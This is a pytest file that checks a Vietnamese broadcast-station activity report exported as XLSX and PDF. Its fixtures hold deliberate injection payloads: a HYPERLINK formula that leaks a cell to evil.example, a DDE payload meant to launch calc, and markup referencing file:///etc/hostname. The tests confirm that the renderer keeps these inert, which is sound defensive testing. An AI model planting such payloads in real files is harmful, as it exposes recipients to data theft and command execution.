"""The activity report's files: the XLSX read back with openpyxl, the PDF with poppler's tools.

The report is built by hand with known figures; no database is needed. Names carry Vietnamese
diacritics, formulas and markup, and two ward names that are the same once cut to 31 units.
"""

from __future__ import annotations

import io
import os
import re
import resource
import subprocess
import sys
import unicodedata
import zipfile
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pydantic import ValidationError

from scheduler.catalogue.names import built_in
from scheduler.config import Settings
from scheduler.reports.render import pdf, words, xlsx
from scheduler.reports.render.sheetnames import SheetNames
from scheduler.reports.schemas import (
    ActivityReport,
    Comparison,
    Figures,
    Outage,
    StationFigures,
    WardFigures,
)

ZONE = "Asia/Ho_Chi_Minh"
H = 3600.0
HOSTILE_WARD = '=HYPERLINK("x")'
LONG_WARD = "Phường Thành Công [khu A]: tổ dân phố số 1/2*?"
LONG_TWIN = "Phường Thành Công [khu A]: tổ dân phố số 1/3"
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")', "+SUM(1+1)", "@SUM(1)",
                 "-2+3"]
HOSTILE_REASON = "=cmd|' /C calc'!A0"
MARKUP = '<b>in đậm</b><img src="file:///etc/hostname">'
OUTAGE = Outage(start=datetime(2026, 3, 12, 1, 15, tzinfo=UTC),
                end=datetime(2026, 3, 13, 4, 30, tzinfo=UTC), seconds=27 * H + 15 * 60)
COUNTS = ("planned", "played", "interrupted", "missed", "failed", "skipped", "cancelled",
          "open", "bulletins", "emergencies", "on_air_seconds")
BREAKDOWNS = ("by_language", "by_topic", "by_category", "not_played_by_reason")


def _station(number: int, name: str, ward: str, **figures: Any) -> StationFigures:
    return StationFigures(station_id=number, name=name, ward=ward, timezone=ZONE, **figures)


STATIONS = [
    _station(1, "Trạm Tân Lợi 1", "Phường Tân Lợi", planned=12000, played=11800, interrupted=50,
             missed=100, failed=40, skipped=10, cancelled=5, on_air_seconds=1000.25 * H,
             bulletins=300, emergencies=4, availability=0.995, longest_outage=OUTAGE,
             online_seconds=180 * 86400 * 0.995, observed_seconds=180 * 86400.0,
             by_language={"vi": 800 * H, "rad": 200.25 * H},
             by_topic={"y-te": 600 * H, "": 400.25 * H},
             by_category={"Tin y tế": 600 * H, "": 400.25 * H},
             not_played_by_reason={"late": 60, "plan_not_delivered": 80}),
    _station(2, "Trạm Ea Tu", "Xã Ea Tu", planned=345, played=300, missed=45,
             on_air_seconds=234.25 * H, bulletins=20, availability=0.5,
             by_language={"jra": 234.25 * H}, by_topic={"y-te": 234.25 * H},
             by_category={HOSTILE_NAMES[3]: 234.25 * H},  # a bulletin's category
             not_played_by_reason={"offline_no_report": 44, HOSTILE_REASON: 1}),
    _station(3, HOSTILE_NAMES[0], HOSTILE_WARD, planned=10, played=10, availability=0.99),
    _station(4, HOSTILE_NAMES[1], LONG_WARD, planned=20, played=20, availability=0.98),
    _station(5, HOSTILE_NAMES[2], LONG_TWIN, planned=30, played=30, availability=0.97),
    _station(6, MARKUP, LONG_TWIN, planned=40, played=40, availability=0.96),
]


def _sum(rows: list[StationFigures], **extra: Any) -> dict[str, Any]:
    figures: dict[str, Any] = {field: sum(getattr(row, field) for row in rows) for field in COUNTS}
    for field in BREAKDOWNS:
        total: Counter[str] = Counter()
        for row in rows:
            total.update(getattr(row, field))
        figures[field] = dict(total)
    return {**figures, **extra}


def _ward(name: str) -> WardFigures:
    members = [s for s in STATIONS if s.ward == name]
    return WardFigures(ward=name, stations=len(members), **_sum(
        members, availability=sum(s.availability or 0 for s in members) / len(members)))


WARDS = [_ward(name) for name in dict.fromkeys(s.ward for s in STATIONS)]
REPORT = ActivityReport.model_validate({
    "from": date(2025, 12, 15), "to": date(2026, 6, 14), "timezone": ZONE, "period": "2026-H1",
    "title": "6 tháng đầu năm 2026", "generated_at": datetime(2026, 6, 10, 1, 30, tzinfo=UTC),
    "totals": Figures(**_sum(STATIONS, availability=0.9, longest_outage=OUTAGE)),
    "wards": WARDS, "stations": STATIONS,
    "previous": Comparison.model_validate({
        "from": date(2025, 6, 15), "to": date(2025, 12, 14),
        "totals": Figures(planned=9000, played=8900, missed=100, on_air_seconds=1000 * H,
                          availability=0.8, by_language={"vi": 1000 * H},
                          not_played_by_reason={"late": 100}),
        "wards": [WardFigures(ward="Phường Tân Lợi", stations=1, planned=10000, played=9900,
                              on_air_seconds=1000 * H, availability=0.8)]})})


# --- XLSX -----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def workbook_bytes() -> bytes:
    out = io.BytesIO()
    xlsx.write(REPORT, built_in("vi"), out)
    return out.getvalue()


@pytest.fixture(scope="module")
def book(workbook_bytes: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes))


def _table(sheet: Any, first_head: str) -> tuple[dict[str, int], list[tuple[Any, ...]]]:
    """Find the table whose header starts with `first_head`: its columns and its rows."""
    rows = list(sheet.iter_rows())
    start = next(i for i, row in enumerate(rows) if row[0].value == first_head)
    heads = {cell.value: index for index, cell in enumerate(rows[start]) if cell.value}
    body = []
    for row in rows[start + 1:]:
        if row[0].value is None:
            break
        body.append(row)
    return heads, body


def test_the_workbook_has_totals_wards_stations_and_a_sheet_per_ward(book: Any) -> None:
    names = book.sheetnames
    assert names[:5] == ["Tổng hợp", "Phường, xã", "Trạm", "Phường Tân Lợi", "Xã Ea Tu"]
    assert names[5] == HOSTILE_WARD  # quotes and = are allowed in a sheet name
    long, twin = names[6:]
    assert long.startswith("Phường Thành Công -khu A-") and twin.endswith(" (2)")
    for name in names:
        assert len(name.encode("utf-16-le")) // 2 <= 31 and not re.search(r"[\[\]:*?/\\]", name)
    assert len({name.casefold() for name in names}) == len(names)
    # each ward's sheet names its ward in full
    assert [book[name]["A1"].value for name in names[3:]] == [w.ward for w in WARDS]


def test_station_rows_hold_numbers_equal_to_the_report(book: Any) -> None:
    heads, rows = _table(book["Trạm"], "Tên trạm")
    assert len(rows) == len(STATIONS)
    for row, station in zip(rows, STATIONS, strict=True):
        cell = {head: row[index] for head, index in heads.items()}
        assert (cell["Tên trạm"].value, cell["Phường, xã"].value) == (station.name, station.ward)
        assert cell["Mã trạm"].value == station.station_id
        for head, field in (("Lượt phát theo kế hoạch", "planned"), ("Đã phát", "played"),
                            ("Bị ngắt", "interrupted"), ("Bị lỡ", "missed"), ("Lỗi", "failed"),
                            ("Bỏ qua", "skipped"), ("Đã hủy", "cancelled"),
                            ("Số bản tin đã phát", "bulletins"),
                            ("Lượt phát khẩn cấp", "emergencies")):
            assert cell[head].data_type == "n" and cell[head].value == getattr(station, field)
        hours = cell["Thời lượng phát sóng (giờ)"]
        assert hours.data_type == "n" and hours.number_format == "#,##0.00"
        assert hours.value == pytest.approx(station.on_air_seconds / H)
        clock = cell["Thời lượng phát sóng (giờ:phút)"]
        assert clock.number_format == "[h]:mm"
        assert clock.value == timedelta(seconds=station.on_air_seconds)
        share = cell["Tỷ lệ hoạt động của trạm"]
        assert share.data_type == "n" and share.number_format == "0.0%"
        assert share.value == pytest.approx(station.availability)
    first = {head: rows[0][index].value for head, index in heads.items()}
    # the longest outage in the station's own time (UTC+7), as Excel dates
    assert first["Mất kết nối lâu nhất: từ"] == datetime(2026, 3, 12, 8, 15)
    assert first["Mất kết nối lâu nhất: đến"] == datetime(2026, 3, 13, 11, 30)
    assert first["Mất kết nối lâu nhất (giờ)"] == pytest.approx(27.25)


def test_totals_stand_beside_the_previous_period_and_the_change(book: Any) -> None:
    sheet = book["Tổng hợp"]
    assert (sheet["B3"].value, sheet["B3"].number_format) == (datetime(2025, 12, 15),
                                                              "dd/mm/yyyy")
    assert sheet["B4"].value == datetime(2026, 6, 14)
    assert sheet["B8"].value == datetime(2026, 6, 10, 8, 30)  # generated, local time
    heads, rows = _table(sheet, "Chỉ tiêu")
    by_label = {row[0].value: [cell.value for cell in row[1:5]] for row in rows}
    totals = REPORT.totals
    assert by_label["Số trạm"] == [6, 1, 5, 5]
    assert by_label["Lượt phát theo kế hoạch"] == [12445, 9000, 3445, pytest.approx(3445 / 9000)]
    assert totals.planned == 12445
    assert by_label["Thời lượng phát sóng (giờ)"][:3] == [pytest.approx(1234.5), 1000,
                                                          pytest.approx(234.5)]
    assert by_label["Tỷ lệ hoạt động của trạm"][:3] == [0.9, 0.8, pytest.approx(0.1)]


def test_on_air_time_and_not_played_are_broken_down_by_name(book: Any) -> None:
    sheet = book["Tổng hợp"]
    languages = {row[0].value: (row[1].value, row[2].value) for row in _table(sheet, "Ngôn ngữ")[1]}
    assert languages == {"Tiếng Việt": ("vi", pytest.approx(800)),
                         "Jrai (Gia Rai)": ("jra", pytest.approx(234.25)),
                         "Ê Đê": ("rad", pytest.approx(200.25))}
    topics = {row[0].value: row[2].value for row in _table(sheet, "Chủ đề")[1]}
    assert topics == {"Y tế": pytest.approx(834.25), "Chưa phân loại": pytest.approx(400.25)}
    reasons = {row[0].value: (row[2].value, row[3].value)
               for row in _table(sheet, "Không phát được (bị lỡ, lỗi) theo lý do")[1]}
    assert reasons == {"Kế hoạch phát chưa đến được trạm": (80, None),
                       "Đã qua giờ phát mà trạm chưa phát được": (60, 100),
                       "Trạm mất kết nối lúc đến giờ phát và chưa báo lại": (44, None),
                       HOSTILE_REASON: (1, None)}


def test_text_from_users_never_becomes_a_formula(book: Any, workbook_bytes: bytes) -> None:
    found = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    found.append(cell.value)
    assert set(HOSTILE_NAMES) | {HOSTILE_WARD, HOSTILE_REASON} <= set(found)
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(member)), member


def test_hundreds_of_ward_sheets_hold_no_file_open(tmp_path: Path) -> None:
    wards = [WardFigures(ward=f"Phường {n}", stations=1, planned=n) for n in range(300)]
    report = REPORT.model_copy(update={"wards": wards, "stations": [
        _station(n, f"Trạm {n}", f"Phường {n}", planned=n) for n in range(300)]})
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    in_use = len(os.listdir("/proc/self/fd"))
    resource.setrlimit(resource.RLIMIT_NOFILE, (in_use + 100, hard))
    try:
        with (tmp_path / "many.xlsx").open("wb") as out:
            xlsx.write(report, built_in("vi"), out)
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    book = openpyxl.load_workbook(tmp_path / "many.xlsx")
    assert len(book.sheetnames) == 3 + 300
    assert book["Phường 299"]["A6"].value == "Lượt phát theo kế hoạch"
    assert book["Phường 299"]["B6"].value == 299


def test_sheet_names_are_valid_unique_and_close_to_the_ward() -> None:
    names = SheetNames(["Tổng hợp"])
    assert names.claim("tổng HỢP") == "tổng HỢP (2)"  # Excel ignores case
    assert names.claim("History") == "History (2)"  # Excel's own
    assert names.claim("'Xã Ea Tu'") == "Xã Ea Tu"
    decomposed = unicodedata.normalize("NFD", "Phường Tân Lợi")
    assert names.claim(decomposed) == "Phường Tân Lợi"
    emoji = names.claim("📢" * 20)  # two UTF-16 units each
    assert emoji == "📢" * 15
    assert names.claim("[]:*?/\\") == "-------" and names.claim("\x00\t") == "Phường, xã"


# --- PDF ------------------------------------------------------------------------------------

LETTERHEAD = {"report_issuer": "ỦY BAN NHÂN DÂN THÀNH PHỐ BUÔN MA THUỘT|PHÒNG VĂN HÓA VÀ "
                               "THÔNG TIN",
              "report_place": "Buôn Ma Thuột", "report_signer": "Nguyễn Văn An",
              "report_signer_title": "KT. TRƯỞNG PHÒNG|PHÓ TRƯỞNG PHÒNG",
              "report_recipients": "UBND thành phố (để báo cáo)|Sở Văn hóa, Thể thao và Du "
                                   "lịch|Lưu: VT"}


def _pdf(tmp_path: Path, report: ActivityReport, **settings: Any) -> Path:
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf.render(report, built_in("vi"), settings=Settings(**settings)))
    return path


def _text(path: Path) -> str:
    """The PDF's text in drawing order, NFC, its white space made single spaces."""
    done = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True,
                          check=True, text=True)
    return " ".join(unicodedata.normalize("NFC", done.stdout).split())


def _squeezed(text: str) -> str:
    """Text without any white space: a name wrapped inside a table cell reads whole."""
    return "".join(text.split())


@pytest.fixture(scope="module")
def pdf_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _pdf(tmp_path_factory.mktemp("pdf"), REPORT, **LETTERHEAD)


def test_the_pdf_is_a_vietnamese_administrative_report(pdf_path: Path) -> None:
    text = _text(pdf_path)
    for expected in ("ỦY BAN NHÂN DÂN THÀNH PHỐ BUÔN MA THUỘT", "PHÒNG VĂN HÓA VÀ THÔNG TIN",
                     "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                     "/BC-VHTT", "Buôn Ma Thuột, ngày 10 tháng 6 năm 2026", "BÁO CÁO",
                     "Tình hình hoạt động thông tin cơ sở 6 tháng đầu năm 2026",
                     "I. TÌNH HÌNH CHUNG", "II. HOẠT ĐỘNG THEO PHƯỜNG, XÃ",
                     "III. HOẠT ĐỘNG THEO TRẠM", "IV. THỜI LƯỢNG PHÁT SÓNG THEO NGÔN NGỮ",
                     "V. CÁC LƯỢT KHÔNG PHÁT ĐƯỢC THEO LÝ DO", "Nơi nhận:",
                     "- UBND thành phố (để báo cáo);", "- Lưu: VT.", "KT. TRƯỞNG PHÒNG",
                     "PHÓ TRƯỞNG PHÒNG", "Nguyễn Văn An"):
        assert expected in text, expected
    assert re.search(r"Số: */BC-VHTT", text)


def test_the_pdf_figures_read_the_vietnamese_way(pdf_path: Path) -> None:
    text = _text(pdf_path)
    for expected in ("từ ngày 15/12/2025 đến ngày 14/06/2026", "12.445 lượt phát theo kế hoạch",
                     "1.234,5 giờ", "Tỷ lệ hoạt động bình quân của các trạm: 90,0%",
                     "+3.445 (+38,3%)", "+10,0 điểm %",  # the change from the last period
                     "1.000,3",  # 1,000.25 hours: half up, as an office rounds
                     "99,5%", "1 ngày 3 giờ 15 phút (từ 12/03/2026)", "lúc 08:30 10/06/2026"):
        assert expected in text, expected


def test_names_in_the_pdf_keep_their_diacritics(pdf_path: Path) -> None:
    text = _squeezed(_text(pdf_path))
    names = [*(s.name for s in STATIONS), *(w.ward for w in WARDS), "Tiếng Việt", "Ê Đê",
             "Jrai (Gia Rai)", "Y tế", "Chưa phân loại", "Kế hoạch phát chưa đến được trạm",
             "Trạm mất kết nối lúc đến giờ phát và chưa báo lại", HOSTILE_REASON]
    for name in names:  # markup included: it is text, never fetched nor drawn
        assert _squeezed(name) in text, name


def test_the_pdf_is_a4_with_every_font_embedded(pdf_path: Path) -> None:
    info = subprocess.run(["pdfinfo", str(pdf_path)], capture_output=True, check=True,
                          text=True).stdout
    assert re.search(r"Page size:\s+595\.2\d* x 841\.8\d* pts \(A4\)", info), info
    fonts = subprocess.run(["pdffonts", str(pdf_path)], capture_output=True, check=True,
                           text=True).stdout.splitlines()[2:]
    assert fonts
    for line in fonts:  # name type encoding emb sub uni object ID
        assert line.split()[-5] == "yes", line
    assert any("Serif" in line or "Times" in line for line in fonts), fonts


def test_past_its_limit_the_pdf_lists_the_stations_most_in_need(tmp_path: Path) -> None:
    text = _text(_pdf(tmp_path, REPORT, report_pdf_max_stations=2))
    squeezed = _squeezed(text)
    # the worst availability first: Ea Tu (50%), then the station at 96%
    assert squeezed.index("TrạmEaTu") < squeezed.index(_squeezed(MARKUP))
    assert "TrạmTânLợi1" not in squeezed and "+SUM(1+1)" not in squeezed
    assert "trong tổng số 6 trạm" in text and "(XLSX)" in text


def test_a_ward_limited_report_says_which_wards(tmp_path: Path) -> None:
    limited = REPORT.model_copy(update={"wards_filter": ["Phường Tân Lợi", "Xã Ea Tu"],
                                        "previous": None})
    text = _text(_pdf(tmp_path, limited))
    assert "(Phường, xã: Phường Tân Lợi, Xã Ea Tu)" in text
    assert "……………, ngày 10 tháng 6 năm 2026" in text  # no place set: dots to fill in


def test_a_server_without_pango_still_starts() -> None:
    # WeasyPrint loads Pango when imported: only rendering a PDF may need it
    code = ("import sys, scheduler.reports.render.pdf, scheduler.reports.render.xlsx; "
            "assert 'weasyprint' not in sys.modules")
    subprocess.run([sys.executable, "-c", code], check=True,
                   cwd=Path(__file__).resolve().parents[2])


def test_letterhead_settings_are_checked() -> None:
    with pytest.raises(ValidationError, match="report_issuer"):
        Settings(report_issuer=" | ")
    with pytest.raises(ValidationError, match="report_symbol"):
        Settings(report_symbol="BC/VHTT")
    assert pdf.Letterhead.from_settings(Settings(**LETTERHEAD)).signer_title == (
        "KT. TRƯỞNG PHÒNG", "PHÓ TRƯỞNG PHÒNG")


def test_dates_durations_and_numbers_are_written_as_an_office_writes_them() -> None:
    assert words.decree_date(date(2026, 2, 5)) == "ngày 05 tháng 02 năm 2026"
    assert words.decree_date(date(2026, 12, 15)) == "ngày 15 tháng 12 năm 2026"
    assert words.lasting(27 * H + 15 * 60) == "1 ngày 3 giờ 15 phút"
    assert (words.lasting(45 * 60), words.lasting(20)) == ("45 phút", "dưới 1 phút")
    assert (words.number(1234.5, 1), words.signed(-3), words.signed(0)) == ("1.234,5", "-3", "0")
    assert (words.number(0.25, 1), words.number(2.5)) == ("0,3", "3")  # half up
    assert words.share(0.9953) == "99,5%"
